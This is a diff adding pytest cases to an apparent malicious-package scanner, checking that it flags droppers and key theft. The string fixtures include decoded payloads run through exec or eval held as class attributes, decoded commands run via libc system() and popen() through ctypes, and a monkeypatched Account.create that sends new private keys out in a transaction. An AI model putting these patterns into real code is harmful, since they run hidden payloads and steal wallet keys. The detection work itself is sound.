@@ -1668,3 +1668,145 @@ def test_pyarmor_named_in_prose_or_called_without_bytecode_is_not() -> None:
     '''
     for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
         assert "CPL-THR-027" not in danger(source, "pkg/__init__.py", mode)
+
+
+# -- blind14: a code runner kept as a class's attribute ---------------------------------------
+
+_CLASS_ATTRIBUTE_RUNNERS = {
+    "staticmethod": "class L:\n    run = staticmethod(exec)\n",
+    "plain": "class L:\n    run = exec\n",
+    "annotated-classmethod": "class L:\n    run: object = classmethod(eval)\n",
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_CLASS_ATTRIBUTE_RUNNERS))
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_a_decoded_payload_run_through_a_class_attribute_is_a_dropper(
+    shape: str, mode: ScanMode
+) -> None:
+    source = (
+        "import base64, zlib\n"
+        + _CLASS_ATTRIBUTE_RUNNERS[shape]
+        + "L.run(zlib.decompress(base64.b64decode(BLOB)))\n"
+    )
+    assert "CPL-THR-001" in danger(source, mode=mode)
+
+
+def test_the_prefilter_keeps_a_class_attribute_runner(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    source = (
+        "import base64\nclass L:\n    run = staticmethod(exec)\nL.run(base64.b64decode(BLOB))\n"
+    )
+    (tmp_path / "mod.py").write_text(source, encoding="utf-8")
+    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
+    assert "CPL-THR-001" in {r for r, _, _ in whole}
+    assert filtered == whole
+
+
+def test_a_class_attribute_that_is_no_code_runner_runs_nothing() -> None:
+    # formatters kept as static methods (str.upper, a decoder's own function) and print
+    source = """
+    import base64
+    class Fmt:
+        render = staticmethod(str.upper)
+        decode = staticmethod(base64.b64decode)
+        show = print
+    Fmt.show(Fmt.render(Fmt.decode(BLOB).decode()))
+    """
+    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
+        assert not {r for r in danger(source, mode=mode) if r.startswith("CPL-THR")}
+
+
+# -- blind14: the C library's system() through ctypes -----------------------------------------
+
+_LIBC_RUNS = {
+    "cdll-none": (
+        "import base64, ctypes\nlibc = ctypes.CDLL(None)\nlibc.system(base64.b64decode(CMD))\n"
+    ),
+    "load-library": (
+        "import base64, ctypes, ctypes.util\n"
+        "libc = ctypes.cdll.LoadLibrary(ctypes.util.find_library('c'))\n"
+        "libc.popen(base64.b64decode(CMD), b'r')\n"
+    ),
+    "msvcrt": "import base64, ctypes\nctypes.cdll.msvcrt.system(base64.b64decode(CMD))\n",
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_LIBC_RUNS))
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_a_decoded_command_run_by_libc_through_ctypes_is_a_dropper(
+    shape: str, mode: ScanMode
+) -> None:
+    assert "CPL-THR-001" in danger(_LIBC_RUNS[shape], mode=mode)
+
+
+@pytest.mark.parametrize("shape", sorted(_LIBC_RUNS))
+def test_the_prefilter_keeps_libc_run_through_ctypes(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "mod.py").write_text(_LIBC_RUNS[shape], encoding="utf-8")
+    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
+    assert "CPL-THR-001" in {r for r, _, _ in whole}
+    assert filtered == whole
+
+
+def test_a_c_library_called_with_decoded_data_runs_no_program() -> None:
+    # a codec library handed decoded bytes, libc's printf and a function named like a system
+    # query: no program is started
+    source = """
+    import base64, ctypes
+    lib = ctypes.CDLL("libcodec.so")
+    lib.decode_frame(base64.b64decode(FRAME))
+    libc = ctypes.CDLL(None)
+    libc.printf(base64.b64decode(TEXT))
+    libc.sysconf(84)
+    """
+    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
+        assert not {r for r in danger(source, mode=mode) if r.startswith("CPL-THR")}
+
+
+# -- blind14: a patched library function that hands what it gets to a helper that sends -------
+
+_PATCH_THROUGH_HELPER = """
+from eth_account import Account
+from web3 import Web3
+W3 = Web3(Web3.HTTPProvider("https://rpc.node.example"))
+_create = Account.create
+def _send(key):
+    W3.eth.send_raw_transaction(SIGNER.sign_transaction({"data": key}).raw_transaction)
+def create(*a, **k):
+    acct = _create(*a, **k)
+    _send(acct.key.hex())
+    return acct
+Account.create = create
+"""
+
+
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_a_patched_library_function_sending_through_a_helper_is_a_threat(mode: ScanMode) -> None:
+    assert "CPL-THR-025" in danger(_PATCH_THROUGH_HELPER, "setutils/__init__.py", mode=mode)
+
+
+def test_a_patched_library_function_whose_helper_only_logs_is_no_threat() -> None:
+    # a compatibility shim wrapping the library's function, its helper logging locally; and
+    # web3 used for the package's own transactions to a node it is configured with
+    source = """
+    import logging
+    from eth_account import Account
+    from web3 import Web3
+    _create = Account.create
+    def _note(address):
+        logging.getLogger(__name__).info("created %s", address)
+    def create(*a, **k):
+        acct = _create(*a, **k)
+        _note(acct.address)
+        return acct
+    Account.create = create
+    def transfer(w3: Web3, tx):
+        return w3.eth.send_raw_transaction(tx)
+    """
+    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
+        assert not {
+            r for r in danger(source, "shim/__init__.py", mode=mode) if r.startswith("CPL-THR")
+        }
